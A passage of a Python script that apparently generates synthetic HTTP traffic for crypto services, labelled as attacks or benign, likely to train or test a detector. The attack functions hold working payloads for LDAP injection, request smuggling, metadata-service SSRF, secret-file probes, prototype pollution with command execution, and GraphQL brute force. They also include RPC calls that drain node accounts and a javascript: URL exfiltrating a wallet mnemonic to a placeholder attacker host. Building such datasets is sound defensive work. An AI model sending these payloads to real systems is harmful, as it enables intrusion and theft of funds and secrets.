        "/api/directory/search?q=" + q("jdoe)(|(mail=*)(telephoneNumber=*") , H_KYC, xhr_headers(cookie=True))
    add("attacks", "backoffice-ldap", cat, "GET",
        "/admin/users?uid=%2a%29%28%7c%28cn%3d%2a", "custody.example.com", tool_headers())


# ---------------- protocol: smuggling and malformed framing -------------

def attacks_protocol():
    cat = "protocol"
    smuggled = ("0\r\n\r\nPOST /internal/withdraw HTTP/1.1\r\nHost: localhost\r\n"
                "Content-Type: application/json\r\nContent-Length: 60\r\n\r\n"
                '{"to":"0x000000000000000000000000000000000000dEaD","amt":9}')
    te_variants = [["Transfer-Encoding", "chunked"], ["Transfer-Encoding", " chunked"],
                   ["Transfer-Encoding", "xchunked"], ["Transfer-Encoding", "chunked, identity"],
                   ["Transfer-encoding", "cow"]]
    for i, te in enumerate(te_variants):
        hdrs = [["User-Agent", "Mozilla/5.0"], ["Accept", "*/*"],
                ["Content-Type", "application/x-www-form-urlencoded"], te]
        if i == 4:
            hdrs.append(["Transfer-Encoding", "chunked"])
        add("attacks", "te-smuggling", cat, "POST", "/api/v1/ticker", H_EX, hdrs, smuggled)
    add("attacks", "te-smuggling", cat, "POST", "/", H_RPC,
        [["User-Agent", "Mozilla/5.0"], ["Content-Type", "application/json"],
         ["Transfer-Encoding", "chunked"], ["Transfer-Encoding", "identity"]],
        '1c\r\n{"jsonrpc":"2.0","id":1,"m"\r\n0\r\n\r\nGET /admin HTTP/1.1\r\nX: x')
    add("attacks", "absolute-uri-internal", cat, "GET", "http://169.254.169.254/latest/meta-data/", H_RPC,
        [["User-Agent", "curl/7.88.1"], ["Accept", "*/*"]])
    add("attacks", "range-dos", cat, "GET", "/snapshots/mainnet-latest.tar.zst", "snapshots.example.com",
        [["User-Agent", "curl/7.88.1"], ["Accept", "*/*"],
         ["Range", "bytes=0-," + ",".join("5-%d" % k for k in range(1, 120))]])
    add("attacks", "duplicate-host", cat, "GET", "/admin/", H_RPC,
        [["Host", "127.0.0.1:8545"], ["User-Agent", "curl/7.88.1"], ["Accept", "*/*"]])


# ---------------- scanner: secrets, keystores, exposed admin RPC --------

SCAN_UAS = [
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "Nikto/2.5.0",
    "Mozilla/5.0 zgrab/0.x",
    "Fuzz Faster U Fool v2.1.0-dev",
    "gobuster/3.6",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "python-requests/2.28.1",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0.4044.129 Safari/537.36",
    "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
]

SCAN_PATHS = [
    "/.env", "/.env.production", "/api/.env", "/backend/.env.local", "/.git/config", "/.git/HEAD",
    "/keystore/", "/wallet.dat", "/.ethereum/keystore/", "/backup/wallet.dat.bak",
    "/.secret", "/mnemonic.txt", "/seed.txt", "/hardhat.config.js", "/truffle-config.js",
    "/id.json", "/.config/solana/id.json", "/private_key.txt", "/config/secrets.json",
    "/.aws/credentials", "/docker-compose.yml", "/phpinfo.php", "/actuator/env", "/debug/pprof/goroutine?debug=2",
    "/server-status", "/wp-config.php.bak", "/.DS_Store", "/backup.sql.gz", "/geth.ipc",
]


def attacks_scanner():
    cat = "scanner"
    for i, p in enumerate(SCAN_PATHS):
        host = cyc([H_RPC, H_WALLET, H_EXWEB, H_NFT, H_DEFI, H_SCAN], i)
        add("attacks", "secret-file-probe", cat, "GET", p, host,
            [["User-Agent", cyc(SCAN_UAS, i)], ["Accept", "*/*"], ["Connection", "close"]])
    # information-gathering against node admin namespaces on a public gateway
    probes = [
        ("personal_listAccounts", []),
        ("personal_listWallets", []),
        ("admin_nodeInfo", []),
        ("admin_peers", []),
        ("admin_datadir", []),
        ("debug_getRawHeader", ["latest"]),
        ("parity_nodeName", []),
        ("web3_clientVersion", []),
    ]
    # one batch sweep and several single-call probes
    batch = [{"jsonrpc": "2.0", "id": i + 1, "method": m, "params": p} for i, (m, p) in enumerate(probes)]
    add("attacks", "node-admin-sweep", cat, "POST", "/", H_RPC,
        [["User-Agent", "Go-http-client/1.1"], ["Accept", "*/*"], ["Content-Type", "application/json"]],
        json.dumps(batch, separators=(",", ":")))
    for i, (m, p) in enumerate(probes[:5]):
        add("attacks", "node-admin-probe", cat, "POST", cyc(["/", "/rpc", "/v1/mainnet", "/jsonrpc", "/"], i),
            cyc([H_RPC, H_RPC2], i),
            [["User-Agent", cyc(SCAN_UAS, i + 3)], ["Accept", "*/*"], ["Content-Type", "application/json"]],
            rpc_body(m, p, rid=i))
    add("attacks", "node-admin-probe", cat, "GET",
        "/?" + qs([("jsonrpc", "2.0"), ("method", "personal_listAccounts"), ("id", "1")]), H_RPC2,
        [["User-Agent", "zgrab/0.x"], ["Accept", "*/*"]])


# ---------------- generic: prototype pollution, GraphQL abuse, node-admin abuse

def attacks_generic():
    cat = "generic"
    # prototype pollution in JSON-RPC params and app JSON
    pp = [
        ("/", H_RPC, rpc_body("eth_call", [{"to": addr(), "data": "0x70a08231", "__proto__": {"isAdmin": True}}, "latest"])),
        ("/v1/mainnet", H_RPC, rpc_body("eth_getLogs", [{"fromBlock": "0x1", "constructor": {"prototype": {"allowAll": True}}}])),
        ("/api/settings", H_WALLET, json.dumps({"theme": "dark", "__proto__": {"role": "admin", "isVerified": True}})),
        ("/api/v1/items/42/attributes", H_NFTAPI,
         json.dumps([{"trait_type": "__proto__", "value": {"shell": "/proc/self/exe", "NODE_OPTIONS": "--require /proc/self/environ"}}])),
        ("/api/v1/orders", H_EX, json.dumps({"pair": "ETH/USDT", "side": "buy", "qty": "0.1",
                                             "constructor": {"prototype": {"feeBps": 0, "kycPassed": True}}})),
        ("/api/profile", H_WALLET, json.dumps({"ens": "alice.eth", "__proto__": {"outputFunctionName": "x;process.mainModule.require('child_process').execSync('id');x"}})),
    ]
    for path, host, body in pp:
        add("attacks", "prototype-pollution", cat, "POST", path, host,
            sdk_headers(ua=rng.choice(TOOLS)), body)
    add("attacks", "prototype-pollution", cat, "GET",
        "/api/v1/nft/search?q=frog&__proto__[isAdmin]=true&constructor[prototype][admin]=1", H_NFTAPI,
        tool_headers(accept=ACCEPT_JSON))
    add("attacks", "prototype-pollution", cat, "GET",
        "/portfolio?__proto__%5BsrcdocUrl%5D=data%3A%2Calert(1)%2F%2F", H_DEFI, browser_headers())
    # GraphQL: alias brute force, batching, deep nesting, introspection sweeps
    aliases = " ".join('a%d: verifyTwoFactor(code: "%06d") { ok token }' % (k, 100000 + k * 7919 % 900000)
                       for k in range(60))
    add("attacks", "graphql-alias-bruteforce", cat, "POST", "/graphql", H_EX,
        xhr_headers("application/json", ua="python-requests/2.31.0", cookie=True),
        json.dumps({"query": "mutation { %s }" % aliases}))
    batch = [{"query": "mutation($e:String!,$p:String!){ login(email:$e,password:$p){ token } }",
              "variables": {"e": "treasury@example.com", "p": pw}}
             for pw in ["123456", "password", "Password1!", "letmein", "qwerty123", "Winter2024!",
                        "ethereum", "bitcoin123", "hodl4ever", "ChangeMe!", "admin123", "trustno1",
                        "satoshi", "moon2025", "wagmi!!", "iloveeth", "000000", "Summer2024"]]
    add("attacks", "graphql-batch-bruteforce", cat, "POST", "/graphql", H_EX,
        sdk_headers(ua="python-requests/2.31.0"), json.dumps(batch))
    deep = "{ pools(first: 1000) { " + "token0 { pools(first: 1000) { " * 8 + "id" + " } }" * 8 + " } }"
    add("attacks", "graphql-depth-dos", cat, "POST", "/subgraphs/name/dex/v3", H_GRAPH,
        sdk_headers(ua="python-requests/2.31.0"), json.dumps({"query": deep}))
    add("attacks", "graphql-fragment-cycle", cat, "POST", "/graphql", H_NFTAPI,
        sdk_headers(ua="python-requests/2.31.0"),
        json.dumps({"query": "query { ...A } fragment A on Query { ...B } fragment B on Query { ...A }"}))
    introspection = ("query IntrospectionQuery { __schema { queryType { name } mutationType { name } "
                     "types { kind name fields(includeDeprecated: true) { name args { name type { name kind ofType { name kind } } } "
                     "type { name kind ofType { name kind } } } } } }")
    add("attacks", "graphql-introspection-sweep", "scanner", "POST", "/internal/admin/graphql", H_EX,
        [["User-Agent", "graphql-cop/1.13"], ["Accept", "*/*"], ["Content-Type", "application/json"]],
        json.dumps({"query": introspection}))
    add("attacks", "graphql-introspection-sweep", "scanner", "GET",
        "/graphql?query=" + q("{__schema{types{name,fields{name}}}}") + "&x=" + q("{__type(name:\"AdminUser\"){fields{name}}}"),
        "custody.example.com", [["User-Agent", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"],
                                ["Accept", "*/*"]])
    # node-admin abuse on a public gateway: unlock, drain, rewind, expose
    victim = addr()
    abuse = [
        ("personal_unlockAccount", [victim, "", 0]),
        ("personal_unlockAccount", [victim, "password123", 300]),
        ("personal_sendTransaction", [{"from": victim, "to": "0x" + "de" * 20, "value": "0x3635c9adc5dea00000"}, ""]),
        ("eth_sendTransaction", [{"from": victim, "to": "0x" + "be" * 20, "value": "0x56bc75e2d63100000", "gas": "0x5208"}]),
        ("personal_importRawKey", ["4c0883a69102937d6231471b5dbb6204fe5129617082792ae468d01a3f362318", "x"]),
        ("debug_setHead", ["0x0"]),
        ("admin_addPeer", ["enode://" + hexs(64) + "@203.0.113.9:30303"]),
        ("admin_startHTTP", ["0.0.0.0", 8545, "*", "eth,net,web3,personal,admin,debug"]),
        ("miner_setEtherbase", ["0x" + "ba" * 20]),
        ("admin_exportChain", ["/var/www/html/chain.rlp"]),
        ("debug_writeMemProfile", ["/etc/cron.d/x"]),
    ]
    for i, (m, p) in enumerate(abuse):
        add("attacks", "node-admin-abuse", cat, "POST", cyc(["/", "/v1/mainnet", "/rpc"], i), cyc([H_RPC, H_RPC2], i),
            [["User-Agent", cyc(["Go-http-client/1.1", "python-requests/2.28.1", "curl/7.88.1"], i)],
             ["Accept", "*/*"], ["Content-Type", "application/json"]],
            rpc_body(m, p, rid=i + 1))
    # javascript: URL in an outbound-link redirector (runs in the explorer's origin)
    add("attacks", "outlink-javascript-url", "xss", "GET",
        "/out?url=" + q("javascript:fetch('//attacker.example.net/?'+localStorage.mnemonic)"), H_SCAN, tool_headers())


def build_attacks():
    attacks_sqli()
    attacks_xss()
    attacks_nosqli()
    attacks_ssrf()
    attacks_lfi()
    attacks_rfi()
    attacks_rce()
    attacks_ssti()
    attacks_java()
    attacks_xxe()
    attacks_php()
    attacks_crlf()
    attacks_ldapi()
    attacks_protocol()
    attacks_scanner()
    attacks_generic()


# ==========================================================================
# BENIGN
# ==========================================================================

SELECTORS = {
    "balanceOf": "0x70a08231", "allowance": "0xdd62ed3e", "transfer": "0xa9059cbb",
    "approve": "0x095ea7b3", "decimals": "0x313ce567", "symbol": "0x95d89b41",
    "totalSupply": "0x18160ddd", "ownerOf": "0x6352211e", "tokenURI": "0xc87b56dd",
    "getReserves": "0x0902f1ac", "multicall": "0xac9650d8", "aggregate3": "0x82ad56cb",
}
TOPIC_TRANSFER = "0xddf252ad1be2c89b69c2b068fc378daa952ba7f163c4a11628f55a4df523b3ef"
TOPIC_SWAP = "0xc42079f94a6350d7e6235f29174924f928cc2ac818eb64fed8004e115fbcca67"


def w_addr(a):
    return "0" * 24 + a[2:]


def w_uint(n):
    return "%064x" % n


def calldata(kind):
    if kind == "balanceOf":
        return SELECTORS[kind] + w_addr(addr())
    if kind == "allowance":
        return SELECTORS[kind] + w_addr(addr()) + w_addr(addr())
    if kind == "transfer":
        return SELECTORS[kind] + w_addr(addr()) + w_uint(rng.randrange(10 ** 6, 10 ** 22))
    if kind in ("ownerOf", "tokenURI"):
        return SELECTORS[kind] + w_uint(rng.randrange(1, 10000))
    if kind == "multicall":
        n = rng.randrange(2, 5)
        out = SELECTORS[kind] + w_uint(32) + w_uint(n)
        for _ in range(n * 3):
            out += hexs(32)
        return out
    return SELECTORS[kind]


def raw_tx():
    return "0x02f8" + hexs(rng.randrange(110, 420))


def siwe_message(domain, address, nonce, statement):
    return ("%s wants you to sign in with your Ethereum account:\n%s\n\n%s\n\nURI: https://%s\n"
            "Version: 1\nChain ID: %d\nNonce: %s\nIssued At: 2024-07-%02dT%02d:%02d:%02d.%03dZ"
            % (domain, address, statement, domain, rng.choice([1, 10, 137, 8453, 42161]), nonce,
               rng.randrange(1, 29), rng.randrange(24), rng.randrange(60), rng.randrange(60), rng.randrange(1000)))


CHAT = [
    "gm gm ☀️ anyone else waiting for the snapshot?",
    "wen reveal? 👀",
    "Just bridged to Base, fees are tiny now 🔵",
    "Danke für die schnelle Antwort! Der Claim hat funktioniert.",
    "ミントできました！ありがとうございます 🐸",
    "스테이킹 보상은 언제 들어오나요?",
    "兄弟们，空投快照是哪个区块？",
    "¿Alguien sabe si el puente a Arbitrum está caído?",
    "Merci à toute l'équipe, la nouvelle UI est top 🙌",
    "Bugün gas ücretleri çok düşük, şimdi mint edin",
    "Có ai bị lỗi khi kết nối ví không?",
    "LFG 🚀🚀 floor is up 12% this week",
    "Reminder: the team will NEVER DM you first. Stay safe & verify links.",
    "Proposal #42 passed with 87% for / 13% against, execution after the 48h timelock.",
    "Is the 0.5% slippage default or did I change it?",
    "I'd rather select a lower fee tier, the 1% pool has bad depth",
    "Union of indie artists drop is live — 333 pieces, 0.02 ETH each",
    "where can I drop my wallet for the allowlist? (not the private key obviously lol)",
    "Olá pessoal! Primeira vez aqui, alguém pode explicar como funciona o staking?",
    "Привет! Когда листинг на бирже?",
]

NFT_NAMES = ["Cosmic Frog #%d", "Pixel Punk #%d", "Genesis Pass #%d", "Lil Ghost #%d", "Moonbird-ish #%d",
             "夜の猫 #%d", "Éclat №%d", "Bored Otter Yacht Club #%d", "🌸 Bloom #%d", "Terraform Plot %d"]
TRAITS = {"Background": ["Blue", "Sunset", "Void", "Mint", "Gold"],
          "Eyes": ["Laser", "Sleepy", "3D Glasses", "Heart", "Closed"],
          "Hat": ["Beanie", "Crown", "None", "Party Hat", "Halo"],
          "Mouth": ["Smile", "Pipe", "Bubblegum", "Grin", "O_o"]}


def benign_rpc():
    cat = "benign"
    for i in range(36):
        kind = i % 14
        rid = rng.randrange(1, 10 ** 6)
        host = cyc([H_RPC, H_RPC2], i)
        path = cyc(["/", "/v1/mainnet", "/v2/" + b58(32), "/rpc", "/eth"], i)
        if kind == 0:
            body = rpc_body("eth_blockNumber", [], rid)
        elif kind == 1:
            body = rpc_body("eth_chainId", [], rid)
        elif kind == 2:
            body = rpc_body("eth_getBalance", [checksum_addr(), "latest"], rid)
        elif kind == 3:
            body = rpc_body("eth_call", [{"to": addr(), "data": calldata(rng.choice(["balanceOf", "allowance", "ownerOf", "tokenURI"]))}, "latest"], rid)
        elif kind == 4:
            body = rpc_body("eth_getLogs", [{"fromBlock": hexnum(19000000, 20000000), "toBlock": "latest",
                                             "address": addr(), "topics": [TOPIC_TRANSFER, None, "0x" + w_addr(addr())]}], rid)
        elif kind == 5:
            body = rpc_body("eth_sendRawTransaction", [raw_tx()], rid)
        elif kind == 6:
            body = rpc_body("eth_estimateGas", [{"from": addr(), "to": addr(), "data": calldata("transfer"), "value": "0x0"}], rid)
        elif kind == 7:
            body = rpc_body("eth_getTransactionReceipt", [txhash()], rid)
        elif kind == 8:
            body = rpc_body("eth_feeHistory", ["0x5", "latest", [25, 50, 75]], rid)
        elif kind == 9:
            body = json.dumps([{"jsonrpc": "2.0", "id": k, "method": m, "params": p} for k, (m, p) in enumerate([
                ("eth_chainId", []), ("eth_blockNumber", []), ("eth_gasPrice", []),
                ("eth_getTransactionCount", [addr(), "pending"]),
                ("eth_call", [{"to": addr(), "data": calldata("multicall")}, "latest"])])], separators=(",", ":"))
        elif kind == 10:
            body = rpc_body("eth_getBlockByNumber", [hexnum(19000000, 20000000), False], rid)
        elif kind == 11:
            body = rpc_body("eth_getCode", [addr(), "latest"], rid)
        elif kind == 12:
            body = rpc_body("eth_getStorageAt", [addr(), "0x" + hexs(32), "latest"], rid)
        else:
            body = rpc_body("eth_getLogs", [{"blockHash": txhash(), "topics": [[TOPIC_SWAP, TOPIC_TRANSFER]]}], rid)
        if i % 3 == 0:
            hdrs = xhr_headers("application/json", origin="https://" + cyc([H_DEFI, H_NFT, H_WALLET], i), cookie=False)
        else:
            hdrs = sdk_headers()
        add("benign", "rpc-call", cat, "POST", path, host, hdrs, body)
    # Solana-style RPC with base58 / base64
    for i in range(8):
        k = i % 4
        if k == 0:
            body = rpc_body("getBalance", [sol_addr()])
        elif k == 1:
            body = rpc_body("getAccountInfo", [sol_addr(), {"encoding": "base64", "commitment": "confirmed"}])
        elif k == 2:
            body = rpc_body("sendTransaction", [b64(bytes(rng.randrange(256) for _ in range(rng.randrange(200, 700)))),
                                                {"encoding": "base64", "skipPreflight": False}])
        else:
            body = rpc_body("getSignaturesForAddress", [sol_addr(), {"limit": 25, "before": b58(88)}])
        add("benign", "solana-rpc", cat, "POST", "/", "solana.rpc.example.com", sdk_headers(ua="solana-web3.js/1.95.1"), body)
    # websocket subscription upgrade
    for i in range(3):
        add("benign", "rpc-ws-upgrade", cat, "GET", "/ws/v3/" + b58(32), H_RPC,
            [["User-Agent", rng.choice(BROWSERS)], ["Upgrade", "websocket"], ["Connection", "Upgrade"],
             ["Sec-WebSocket-Key", b64(bytes(rng.randrange(256) for _ in range(16)))],
             ["Sec-WebSocket-Version", "13"], ["Origin", "https://" + H_DEFI]])


def benign_wallet():
    cat = "benign"
    for i in range(10):
        a = checksum_addr()
        add("benign", "siwe-nonce", cat, "GET", "/api/auth/nonce?address=" + a, H_WALLET, xhr_headers(cookie=False))
        nonce = b58(17)
        msg = siwe_message(cyc([H_WALLET, H_FORUM, H_NFT], i), a, nonce,
                           cyc(["Sign in to Example Wallet.", "I accept the Terms of Service: https://example.net/tos",
                                "Welcome! Signing is the only way we can truly know that you are the owner of the wallet you are connecting. Signing is a safe, gas-less transaction that does not in any way give permission to perform any transactions with your wallet."], i))
        add("benign", "siwe-verify", cat, "POST", "/api/auth/verify", H_WALLET,
            xhr_headers("application/json", origin="https://" + H_WALLET, cookie=False),
            json.dumps({"message": msg, "signature": sig()}))
    labels = ["Cold storage 🧊", "Mom's wallet", "Binance deposit", "Gnosis Safe (treasury)", "Ledger #2",
              "Büro-Wallet", "取引所の入金", "친구 지갑", "Payroll – contractors", "DAO multisig (3/5)",
              "O'Brien hardware wallet", "Test & dev", "Coinbase \"main\""]
    for i, lab in enumerate(labels):
        a = checksum_addr()
        if i % 2 == 0:
            add("benign", "addressbook-add", cat, "POST", "/api/addressbook", H_WALLET,
                xhr_headers("application/json", origin="https://" + H_WALLET),
                json.dumps({"address": a, "label": lab, "network": cyc(["mainnet", "base", "arbitrum", "optimism"], i),
                            "ens": rng.choice(ENS + [None])}, ensure_ascii=False))
        else:
            add("benign", "addressbook-search", cat, "GET", "/api/addressbook?q=" + q(lab.split()[0]) + "&limit=20",
                H_WALLET, xhr_headers())
    for i, n in enumerate(ENS):
        add("benign", "ens-resolve", cat, "GET", "/api/ens/resolve?name=" + q(n), H_WALLET, xhr_headers(cookie=False))
    for i in range(8):
        a = addr()
        cursor = b64(json.dumps({"block": rng.randrange(19000000, 20000000), "logIndex": rng.randrange(300)}).encode())
        add("benign", "wallet-history", cat, "GET",
            "/api/v1/wallets/%s/transactions?chain=%s&cursor=%s&limit=50" % (a, cyc(["eth", "base", "polygon", "arbitrum"], i), q(cursor)),
            H_WALLET, xhr_headers())
        add("benign", "wallet-portfolio", cat, "GET",
            "/api/v1/wallets/%s/tokens?include=prices,logos&currency=%s" % (a, cyc(["usd", "eur", "jpy"], i)), H_WALLET,
            xhr_headers())
    # EIP-712 typed data permit relayed to backend
    for i in range(4):
        owner = addr()
        typed = {"types": {"EIP712Domain": [{"name": "name", "type": "string"}, {"name": "version", "type": "string"},
                                            {"name": "chainId", "type": "uint256"}, {"name": "verifyingContract", "type": "address"}],
                           "Permit": [{"name": "owner", "type": "address"}, {"name": "spender", "type": "address"},
                                      {"name": "value", "type": "uint256"}, {"name": "nonce", "type": "uint256"},
                                      {"name": "deadline", "type": "uint256"}]},
                 "primaryType": "Permit",
                 "domain": {"name": "USD Coin", "version": "2", "chainId": 1, "verifyingContract": addr()},
                 "message": {"owner": owner, "spender": addr(), "value": str(rng.randrange(10 ** 6, 10 ** 12)),
                             "nonce": str(rng.randrange(30)), "deadline": str(1720000000 + rng.randrange(10 ** 6))}}
        add("benign", "relay-permit", cat, "POST", "/api/relay/permit", H_WALLET,
            xhr_headers("application/json", origin="https://" + H_DEFI),
            json.dumps({"typedData": typed, "signature": sig()}))


def benign_nft():
    cat = "benign"
    slugs = ["cosmic-frogs", "pixel-punks", "genesis-pass", "lil-ghosts", "bored-otters", "yoru-no-neko",
             "terraform-plots", "bloom-garden"]
    for i in range(14):
        s = cyc(slugs, i)
        add("benign", "collection-page", cat, "GET", "/collection/%s?tab=items&sort=price_asc" % s, H_NFT,
            browser_headers())
        tid = rng.randrange(1, 10000)
        add("benign", "item-page", cat, "GET", "/assets/ethereum/%s/%d" % (addr(), tid), H_NFT, browser_headers())
    for i in range(10):
        traits = [(t, rng.choice(v)) for t, v in rng.sample(sorted(TRAITS.items()), 2)]
        qp = [("traits[%s]" % t, v) for t, v in traits] + [("status", "buy_now"), ("min", "0.01"), ("max", "1.5")]
        add("benign", "trait-filter", cat, "GET", "/api/v1/collections/%s/items?%s" % (cyc(slugs, i), qs(qp)),
            H_NFTAPI, xhr_headers())
    for i in range(10):
        tid = rng.randrange(1, 10000)
        add("benign", "metadata-fetch", cat, "GET", cyc(["/api/metadata/%d", "/api/metadata/%d.json", "/token/%d"], i) % tid,
            H_NFTAPI, sdk_headers(ctype=None, ua=cyc(["axios/1.7.2", "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)", "Go-http-client/1.1"], i)))
    descs = [
        "A collection of 10,000 hand-drawn frogs living on the Ethereum blockchain.\n\n**Utility**: holders get access to the #frog-pond channel.",
        "Generative art made with p5.js. Each piece is rendered from the token hash; no two are alike.",
        "日本の夜の猫をテーマにしたコレクション。🐈‍⬛",
        "Cada pieza es única — hecha a mano en Barcelona.",
        "Season 2 — 333 editions.\n\n- Royalties: 5%\n- Chain: Base\n- Artist: [@artist](https://example.org/artist)",
        "Select your favorite plot; union rules apply to adjacent parcels (see docs).",
    ]
    for i in range(14):
        tid = rng.randrange(1, 10000)
        attrs = [{"trait_type": t, "value": rng.choice(v)} for t, v in sorted(TRAITS.items())]
        attrs.append({"display_type": "number", "trait_type": "Generation", "value": rng.randrange(1, 5)})
        meta = {"name": cyc(NFT_NAMES, i) % tid, "description": cyc(descs, i),
                "image": cyc(["ipfs://%s" % cid(), "ipfs://%s/%d.png" % (cidv1(), tid), "https://cdn.example.org/frogs/%d.png" % tid,
                              "ar://" + b64url(bytes(rng.randrange(256) for _ in range(32)))], i),
                "external_url": "https://%s/frog/%d" % (H_NFT, tid), "attributes": attrs}
        if i % 3 == 0:
            meta["animation_url"] = "ipfs://%s/%d.mp4" % (cid(), tid)
        if i % 4 == 1:
            meta["image_data"] = ('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 32 32"><rect width="32" height="32" '
                                  'fill="#%s"/><circle cx="16" cy="16" r="%d" fill="#%s"/></svg>' % (hexs(3), rng.randrange(4, 14), hexs(3)))
        add("benign", "nft-metadata-create", cat, "POST", "/api/v1/collections/%s/items" % uuid4(), H_NFTAPI,
            xhr_headers("application/json", origin="https://" + H_NFT, auth="Bearer " + jwt()),
            json.dumps(meta, ensure_ascii=(i % 2 == 0)))
    for i in range(6):
        body, ct = multipart([("name", cyc(NFT_NAMES, i) % rng.randrange(1, 999)), ("description", cyc(descs, i + 2)),
                              ("supply", str(rng.choice([1, 10, 100]))), ("royaltyBps", "750"),
                              ("file", "art-%d.png" % i, "image/png", "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b58(60))])
        add("benign", "nft-upload", cat, "POST", "/api/v1/items/upload", H_NFTAPI,
            xhr_headers(ct, origin="https://" + H_NFT, auth="Bearer " + jwt()), body)
    for i in range(8):
        add("benign", "nft-search", cat, "GET",
            "/search?q=" + q(cyc(["bored ape #1234", "frog", "夜の猫", "pixel punk 🔥", "O'Neil genesis", "0x" + hexs(20),
                                  "art blocks \"chromie squiggle\"", "ens 999 club"], i)), H_NFT, browser_headers())
    for i in range(6):
        order = {"offerer": addr(), "zone": "0x" + "00" * 20, "offer": [{"itemType": 1, "token": addr(),
                 "identifierOrCriteria": "0", "startAmount": str(rng.randrange(10 ** 16, 10 ** 18)), "endAmount": "0"}],
                 "consideration": [{"itemType": 2, "token": addr(), "identifierOrCriteria": str(rng.randrange(10000)),
                                    "startAmount": "1", "endAmount": "1", "recipient": addr()}],
                 "orderType": 0, "startTime": "1719800000", "endTime": "1722400000",
                 "zoneHash": "0x" + "00" * 32, "salt": "0x" + hexs(32), "conduitKey": "0x" + hexs(32), "counter": "0"}
        add("benign", "nft-offer", cat, "POST", "/api/v2/orders/ethereum/seaport/offers", H_NFTAPI,
            xhr_headers("application/json", origin="https://" + H_NFT),
            json.dumps({"parameters": order, "signature": sig(), "protocol_address": addr()}))


def benign_exchange():
    cat = "benign"
    for i in range(12):
        pair = cyc(PAIRS, i)
        sym = pair.replace("/", "")
        k = i % 4
        if k == 0:
            add("benign", "ticker", cat, "GET", "/api/v3/ticker/24hr?symbol=" + sym, H_EX, sdk_headers(ctype=None))
        elif k == 1:
            add("benign", "klines", cat, "GET", "/api/v3/klines?" + qs([("symbol", sym), ("interval", cyc(["1m", "15m", "1h", "1d"], i)),
                                                                       ("limit", "500")]), H_EX, sdk_headers(ctype=None))
        elif k == 2:
            add("benign", "market-trades", cat, "GET", "/api/v1/markets/%s/trades?limit=100" % q(pair), H_EX,
                xhr_headers(cookie=False, origin="https://" + H_EXWEB))
        else:
            add("benign", "depth", cat, "GET", "/api/v3/depth?symbol=%s&limit=%d" % (sym, rng.choice([20, 100, 1000])), H_EX,
                sdk_headers(ctype=None))
    for i in range(12):
        pair = cyc(PAIRS, i + 3)
        params = [("symbol", pair.replace("/", "")), ("side", cyc(["BUY", "SELL", "SELL", "BUY"], i)),
                  ("type", cyc(["LIMIT", "MARKET", "LIMIT", "STOP_LOSS_LIMIT"], i)),
                  ("quantity", "%.4f" % (rng.random() * 3)), ("timeInForce", "GTC"),
                  ("timestamp", str(1719800000000 + rng.randrange(10 ** 8))), ("recvWindow", "5000")]
        if params[2][1] != "MARKET":
            params.append(("price", "%.2f" % (rng.random() * 4000 + 10)))
        if params[2][1] == "STOP_LOSS_LIMIT":
            params.append(("stopPrice", "%.2f" % (rng.random() * 4000 + 10)))
        body = qs(params)
        params_sig = hmac_sig(b"not-a-real-secret", body)
        if i % 2 == 0:
            add("benign", "order-place", cat, "POST", "/api/v3/order", H_EX,
                sdk_headers("application/x-www-form-urlencoded", ua=cyc(["python-requests/2.32.3", "ccxt/4.3.56", "okhttp/4.12.0"], i),
                            extra=[["X-MBX-APIKEY", b58(64)]]),
                body + "&signature=" + params_sig)
        else:
            o = {"instId": pair.replace("/", "-"), "tdMode": "cash", "side": params[1][1].lower(),
                 "ordType": params[2][1].lower(), "sz": params[3][1]}
            price = dict(params).get("price")
            if price:
                o["px"] = price
            o["clOrdId"] = "bot" + hexs(8)
            j = json.dumps(o)
            add("benign", "order-place-json", cat, "POST", "/api/v5/trade/order", H_EX,
                sdk_headers(ua="ccxt/4.3.56", extra=exchange_auth("POST", "/api/v5/trade/order", j)), j)
    for i in range(8):
        cursor = b64(json.dumps({"id": rng.randrange(10 ** 9), "ts": 1719800000000 + rng.randrange(10 ** 8)}).encode())
        add("benign", "order-history", cat, "GET",
            "/api/v1/orders?" + qs([("pair", cyc(PAIRS, i)), ("status", cyc(["filled", "open", "cancelled"], i)),
                                    ("sort", cyc(["created_at:desc", "price:asc", "-updated_at"], i)),
                                    ("cursor", cursor), ("limit", "50")]),
            H_EX, xhr_headers(auth="Bearer " + jwt(), origin="https://" + H_EXWEB))
    for i in range(4):
        oid = str(rng.randrange(10 ** 11))
        add("benign", "order-cancel", cat, "DELETE", "/api/v3/order?symbol=%s&orderId=%s&timestamp=%d&signature=%s"
            % (cyc(PAIRS, i).replace("/", ""), oid, 1719800000000 + rng.randrange(10 ** 8), hexs(32)), H_EX,
            sdk_headers(ctype=None, ua="python-requests/2.32.3", extra=[["X-MBX-APIKEY", b58(64)]]))
    for i in range(6):
        add("benign", "exchange-web", cat, "GET",
            cyc(["/trade/ETH_USDT?layout=pro", "/markets?quote=USDT&sort=volume", "/futures/BTCUSDT",
                 "/earn?asset=ETH&type=staking", "/account/withdraw?coin=USDC&network=ARBITRUM", "/trade/SOL_USDC"], i),
            H_EXWEB, browser_headers())
    for i in range(4):
        add("benign", "withdraw", cat, "POST", "/api/v1/capital/withdraw/apply", H_EX,
            xhr_headers("application/json", auth="Bearer " + jwt(), origin="https://" + H_EXWEB)
            + [["X-2FA-Code", "%06d" % rng.randrange(10 ** 6)]],
            json.dumps({"coin": cyc(["USDC", "ETH", "SOL", "BTC"], i), "network": cyc(["ARBITRUM", "ETH", "SOL", "BTC"], i),
                        "address": cyc([addr(), addr(), sol_addr(), "bc1q" + "".join(rng.choice("023456789acdefghjklmnpqrstuvwxyz") for _ in range(38))], i),
                        "amount": "%.4f" % (rng.random() * 50), "memo": cyc(["", "rent", "", "Miete Juli"], i)}))


def benign_explorer():
    cat = "benign"
    searches = [txhash(), addr(), checksum_addr(), str(rng.randrange(1, 20500000)), "USDC", "Wrapped Ether", "vitalik.eth",
                "Uniswap V3: Router", "0x" + hexs(4), "pepe", "Tether USD", "Lido Staked ETH", "ape coin", "ＵＳＤＣ",
